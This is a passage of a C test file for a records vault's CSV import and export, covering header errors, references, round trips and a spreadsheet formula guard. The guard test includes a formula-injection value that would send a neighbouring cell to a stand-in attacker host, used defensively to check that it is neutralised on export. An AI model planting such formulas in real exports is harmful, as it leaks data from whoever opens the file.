  g_assert_error (error, SP_CORE_ERROR, SP_CORE_ERROR_INVALID);
  g_assert_nonnull (strstr (((SpImportError *)report->errors->pdata[0])->message, "NAME"));
  g_clear_pointer (&report, sp_import_report_free);
  g_clear_error (&error);

  /* Empty file; header only; unknown kind. */
  g_assert_false (import (f.vault, "org", "", FALSE, &report, &error));
  g_assert_error (error, SP_CORE_ERROR, SP_CORE_ERROR_INVALID);
  g_clear_pointer (&report, sp_import_report_free);
  g_clear_error (&error);
  g_assert_true (import (f.vault, "org", "name,region\r\n", FALSE, &report, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (report->rows, ==, 0);
  g_assert_cmpuint (report->imported, ==, 0);
  g_clear_pointer (&report, sp_import_report_free);
  g_assert_false (import (f.vault, "nonsense", "name\nA\n", FALSE, &report, &error));
  g_assert_error (error, SP_CORE_ERROR, SP_CORE_ERROR_INVALID);
  g_clear_pointer (&report, sp_import_report_free);
  g_clear_error (&error);

  /* Bad CSV: the report names the line. */
  g_assert_false (import (f.vault, "org", "name\nA\n\"B\n", FALSE, &report, &error));
  g_assert_error (error, SP_CORE_ERROR, SP_CORE_ERROR_INVALID);
  g_assert_cmpuint (report->errors->len, ==, 1);
  g_assert_cmpuint (((SpImportError *)g_ptr_array_index (report->errors, 0))->line, ==, 3);
  g_clear_pointer (&report, sp_import_report_free);
  g_clear_error (&error);

  /* Stray cells past the header, or under an unnamed column. */
  g_assert_false (import (f.vault, "org", "name,,region\nA,,brest\nB,x,gomel\nC,,minsk_city,y\n",
                          FALSE, &report, &error));
  g_assert_error (error, SP_CORE_ERROR, SP_CORE_ERROR_INVALID);
  g_assert_cmpuint (report->errors->len, ==, 2);
  g_assert_nonnull (find_error (report, 3, NULL));
  g_assert_nonnull (find_error (report, 4, NULL));
  g_assert_cmpint (count (f.vault, "org"), ==, 0);
  fixture_close (&f);
}

static void
test_import_references (void)
{
  Fixture f = { 0 };
  g_autoptr (SpImportReport) report = NULL;
  g_autoptr (GError) error = NULL;
  g_autofree char *org = NULL, *person = NULL, *text = NULL, *good = NULL;
  const char *missing = "ffffffffffffffffffffffffffffffff";

  fixture_open (&f);
  org = sp_test_insert (f.vault, "org", "name", "Alpha", NULL);
  person = sp_test_insert (f.vault, "person", "full_name", "Ala", NULL);
  text = g_strdup_printf ("person,org,role\n"
                          "%s,%s,chair\n"
                          "%s,%s,treasurer\n",
                          person, org, missing, org);

  /* Dry run: the reference to a missing person shows, nothing is written. */
  g_assert_false (import (f.vault, "affiliation", text, TRUE, &report, &error));
  g_assert_error (error, SP_CORE_ERROR, SP_CORE_ERROR_INVALID);
  g_assert_cmpuint (report->errors->len, ==, 1);
  g_assert_cmpuint (((SpImportError *)g_ptr_array_index (report->errors, 0))->line, ==, 3);
  g_assert_cmpint (count (f.vault, "affiliation"), ==, 0);
  g_clear_pointer (&report, sp_import_report_free);
  g_clear_error (&error);

  /* For real: the same, and the first row is not kept either. */
  g_assert_false (import (f.vault, "affiliation", text, FALSE, &report, &error));
  g_assert_error (error, SP_CORE_ERROR, SP_CORE_ERROR_INVALID);
  g_assert_cmpuint (report->errors->len, ==, 1);
  g_assert_cmpint (count (f.vault, "affiliation"), ==, 0);
  g_clear_pointer (&report, sp_import_report_free);
  g_clear_error (&error);

  good = g_strdup_printf ("person,org,role\n%s,%s,chair\n", person, org);
  g_assert_true (import (f.vault, "affiliation", good, FALSE, &report, &error));
  g_assert_no_error (error);
  g_assert_cmpint (count (f.vault, "affiliation"), ==, 1);
  fixture_close (&f);
}

static void
assert_same_records (SpVault *a, SpVault *b, const char *kind)
{
  const SpKindInfo *info = sp_kind_lookup (kind);
  g_autoptr (GError) error = NULL;
  g_autoptr (GPtrArray) list = sp_vault_list (a, kind, NULL, &error);

  g_assert_no_error (error);
  g_assert_cmpint (count (b, kind), ==, (gint64)list->len);
  for (guint i = 0; i < list->len; i++)
    {
      SpRecord *ra = g_ptr_array_index (list, i);
      g_autoptr (SpRecord) rb = sp_vault_get (b, sp_record_get_id (ra), &error);

      g_assert_no_error (error);
      g_assert_cmpstr (sp_record_get_kind (rb), ==, kind);
      for (guint k = 0; k < info->n_fields; k++)
        g_assert_cmpstr (sp_record_get (rb, info->fields[k].name), ==,
                         sp_record_get (ra, info->fields[k].name));
    }
}

static void
test_export_round_trip (void)
{
  Fixture fa = { 0 }, fb = { 0 };
  g_autoptr (GError) error = NULL;
  g_autoptr (GBytes) out_a = NULL;
  g_autoptr (GBytes) out_b = NULL;
  g_autoptr (GBytes) people = NULL;
  g_autoptr (SpImportReport) report = NULL;
  g_autofree char *deleted = NULL;
  const char *csv;
  gsize len;

  fixture_open (&fa);
  fixture_open (&fb);
  g_free (sp_test_insert (
      fa.vault, "org", "name", "Вясна, правы чалавека", "name_alt", "\"Viasna\"; Spring", "kind",
      "registered_ngo", "status", "member", "member_since", "1996-04-26", "region", "minsk_city",
      "locality", "Мінск", "themes", "human rights; legal aid, prisoners", "email",
      "info@example.org", "phone", "+375 29 123-45-67", "website", "https://example.org/a,b",
      "secure_contact", "@viasna; signal", "notes",
      "  Line one, \"quoted\";\r\nline two\n\ttabbed  ", "sensitivity", "high", NULL));
  g_free (
      sp_test_insert (fa.vault, "org", "name", "  Leading and trailing  ", "notes", "   ", NULL));
  g_free (sp_test_insert (fa.vault, "org", "name", "=SUM(A1:A2)", "locality", "'quoted'", NULL));
  g_free (sp_test_insert (fa.vault, "org", "name", "Ціхі", "region", "abroad", NULL));
  deleted = sp_test_insert (fa.vault, "org", "name", "Removed", NULL);
  g_assert_true (sp_vault_delete (fa.vault, deleted, &error));
  g_assert_no_error (error);
  g_free (sp_test_insert (fa.vault, "person", "full_name", "Аляксандра \"Саша\", Мінск", "notes",
                          "a\r\nb", NULL));

  out_a = sp_vault_export_csv (fa.vault, "org", &error);
  g_assert_no_error (error);
  csv = g_bytes_get_data (out_a, &len);
  g_assert_true (g_str_has_prefix (csv, "\xEF\xBB\xBF\"id\",\"name\",\"name_alt\",\"kind\""));
  g_assert_true (g_str_has_suffix (csv, "\r\n"));
  g_assert_null (g_strstr_len (csv, (gssize)len, "Removed"));

  g_assert_true (sp_vault_import_csv (fb.vault, "org", csv, len, FALSE, &report, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (report->imported, ==, 4);
  assert_same_records (fa.vault, fb.vault, "org");
  g_clear_pointer (&report, sp_import_report_free);

  people = sp_vault_export_csv (fa.vault, "person", &error);
  g_assert_no_error (error);
  csv = g_bytes_get_data (people, &len);
  g_assert_true (sp_vault_import_csv (fb.vault, "person", csv, len, FALSE, &report, &error));
  g_assert_no_error (error);
  assert_same_records (fa.vault, fb.vault, "person");

  /* And the second export is byte for byte the first. */
  out_b = sp_vault_export_csv (fb.vault, "org", &error);
  g_assert_no_error (error);
  g_assert_true (g_bytes_equal (out_a, out_b));

  /* Importing the export back into its own vault changes nothing. */
  g_clear_pointer (&report, sp_import_report_free);
  csv = g_bytes_get_data (out_a, &len);
  g_assert_true (sp_vault_import_csv (fa.vault, "org", csv, len, FALSE, &report, &error));
  g_assert_no_error (error);
  g_assert_cmpint (count (fa.vault, "org"), ==, 4);
  assert_same_records (fb.vault, fa.vault, "org");

  fixture_close (&fa);
  fixture_close (&fb);
}

static void
test_export_empty (void)
{
  Fixture f = { 0 };
  g_autoptr (GError) error = NULL;
  g_autoptr (GBytes) out = NULL;
  g_autoptr (GBytes) bad = NULL;
  const char *want = "\xEF\xBB\xBF\"id\",\"target\",\"date\",\"text\"\r\n";

  fixture_open (&f);
  out = sp_vault_export_csv (f.vault, "note", &error);
  g_assert_no_error (error);
  g_assert_cmpmem (g_bytes_get_data (out, NULL), g_bytes_get_size (out), want, strlen (want));

  bad = sp_vault_export_csv (f.vault, "nonsense", &error);
  g_assert_null (bad);
  g_assert_error (error, SP_CORE_ERROR, SP_CORE_ERROR_INVALID);
  fixture_close (&f);
}

/* Cells a spreadsheet would run as formulas leave with an apostrophe in
 * front and come back exactly as they were. */
static void
test_export_formula_guard (void)
{
  Fixture f = { 0 }, g = { 0 };
  g_autoptr (SpImportReport) report = NULL;
  g_autoptr (GError) error = NULL;
  g_autoptr (GBytes) csv = NULL;
  g_autoptr (GPtrArray) back = NULL;
  const char *names[] = { "=HYPERLINK(\"https://evil.example/?\"&E2,\"x\")",
                          "+375 29 1234567",
                          "-minus",
                          "@at",
                          "'=already",
                          "''+two",
                          "'plain",
                          "plain" };
  g_autofree char *text = NULL;

  fixture_open (&f);
  fixture_open (&g);
  for (guint i = 0; i < G_N_ELEMENTS (names); i++)
    g_free (sp_test_insert (f.vault, "org", "name", names[i], NULL));
  csv = sp_vault_export_csv (f.vault, "org", &error);
  g_assert_no_error (error);
  text = g_strndup (g_bytes_get_data (csv, NULL), g_bytes_get_size (csv));
  g_assert_nonnull (strstr (text, "\"'=HYPERLINK"));
  g_assert_nonnull (strstr (text, "\"'+375"));
  g_assert_nonnull (strstr (text, "\"'@at\""));
  g_assert_nonnull (strstr (text, "\"''=already\""));
  g_assert_nonnull (strstr (text, "\"'plain\""));
  g_assert_null (strstr (text, "\"=HYPERLINK"));
  g_assert_true (import (g.vault, "org", text, FALSE, &report, &error));
  g_assert_no_error (error);
  back = sp_vault_list (g.vault, "org", NULL, &error);
  g_assert_cmpuint (back->len, ==, G_N_ELEMENTS (names));
  for (guint i = 0; i < G_N_ELEMENTS (names); i++)
    {
      gboolean found = FALSE;
      for (guint j = 0; j < back->len; j++)
        found = found || g_strcmp0 (sp_record_get (back->pdata[j], "name"), names[i]) == 0;
      if (!found)
        g_error ("%s did not come back", names[i]);
    }
  fixture_close (&f);
  fixture_close (&g);
}

int
main (int argc, char **argv)
{
  g_autoptr (GError) error = NULL;

  g_test_init (&argc, &argv, NULL);
  if (!sp_core_init (&error))
    g_error ("%s", error->message);

  g_test_add_func ("/csv/parse/utf8-bom", test_parse_utf8_bom);
  g_test_add_func ("/csv/parse/cp1251", test_parse_cp1251);
  g_test_add_func ("/csv/parse/utf16", test_parse_utf16);
  g_test_add_func ("/csv/parse/delimiters", test_parse_delimiters);
  g_test_add_func ("/csv/parse/quotes", test_parse_quotes);
  g_test_add_func ("/csv/parse/newlines", test_parse_newlines);
  g_test_add_func ("/csv/parse/ragged", test_parse_ragged);
  g_test_add_func ("/csv/parse/unterminated", test_parse_unterminated);
  g_test_add_func ("/csv/parse/nul", test_parse_nul);
  g_test_add_func ("/csv/parse/limits", test_parse_limits);
  g_test_add_func ("/csv/parse/too-many-rows", test_parse_too_many_rows);
  g_test_add_func ("/csv/parse/empty", test_parse_empty);
  g_test_add_func ("/csv/parse/junk", test_parse_junk);
  g_test_add_func ("/csv/write/row", test_write_row);
  g_test_add_func ("/csv/import/good", test_import_good);
  g_test_add_func ("/csv/import/cp1251", test_import_cp1251);
  g_test_add_func ("/csv/import/bad-rows", test_import_bad_rows);
  g_test_add_func ("/csv/import/required", test_import_required);
  g_test_add_func ("/csv/import/dry-run", test_import_dry_run);
  g_test_add_func ("/csv/import/failed-keeps-data", test_import_failed_keeps_data);
  g_test_add_func ("/csv/import/update", test_import_update);
  g_test_add_func ("/csv/import/header-errors", test_import_header_errors);
  g_test_add_func ("/csv/import/references", test_import_references);
  g_test_add_func ("/csv/export/round-trip", test_export_round_trip);
  g_test_add_func ("/csv/export/empty", test_export_empty);

  g_test_add_func ("/csv/export/formula-guard", test_export_formula_guard);
  return g_test_run ();
}
